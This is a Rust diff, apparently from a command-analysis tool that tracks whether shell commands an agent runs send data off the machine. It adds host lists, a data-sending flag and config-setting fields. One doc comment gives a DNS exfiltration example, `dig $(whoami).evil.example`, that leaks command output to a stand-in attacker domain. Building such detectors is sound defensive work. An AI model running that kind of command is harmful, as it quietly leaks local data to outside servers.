@@ -305,6 +305,15 @@ pub struct Sent {
     pub program: String,
     /// What goes out, in the order the command line gives it.
     pub items: Vec<Payload>,
+    /// Every host the command names (its URLs, `host:path` remotes, a socket's host), for
+    /// whether the send leaves this machine and trusted hosts; empty when none is named.
+    pub hosts: Vec<String>,
+    /// The command sends data of its own beyond naming where it goes: a request body, form or
+    /// upload, a writing method or a URL built from data, a remote command, a cloud CLI's
+    /// upload, a socket's or a mailer's whole purpose. False for a fetch of a fixed URL (`curl
+    /// URL`, `wget -O f URL`) and a cloud CLI's other commands (`aws s3 ls`). What session
+    /// taint takes for a way out.
+    pub data: bool,
 }
 
 /// Where in a request a piece of text goes.
@@ -340,8 +349,12 @@ pub enum Payload {
     PushRemote(String),
     /// A DNS name built from data (`dig $(whoami).evil.example`), looked up: the resolvers on
     /// the way hand it to the servers of `domain`, whoever runs them, so the name is the
-    /// message.
-    Name { name: String, domain: String },
+    /// message. `domain` is `None` when no literal domain ends the name (`dig "$D"`): the data
+    /// goes to whichever zone it names.
+    Name {
+        name: String,
+        domain: Option<String>,
+    },
 }
 
 /// A git remote a command points at a URL (`git remote add NAME URL`, `git remote set-url
@@ -540,6 +553,10 @@ pub enum Effect {
         adds: Option<(PathBuf, String)>,
         /// The git remote the change points at a URL, if it does.
         remote: Option<Remote>,
+        /// The key a setting gives a value (`git config [--global] KEY VALUE`, `git config set
+        /// KEY VALUE`, `npm config set KEY VALUE`), as written, known statically or not;
+        /// `None` for a read, an unset or a remote added by `git remote`.
+        setting: Option<String>,
     },
     /// Starts another agent (`claude -p`, `codex exec`…).
     StartAgent { program: String },
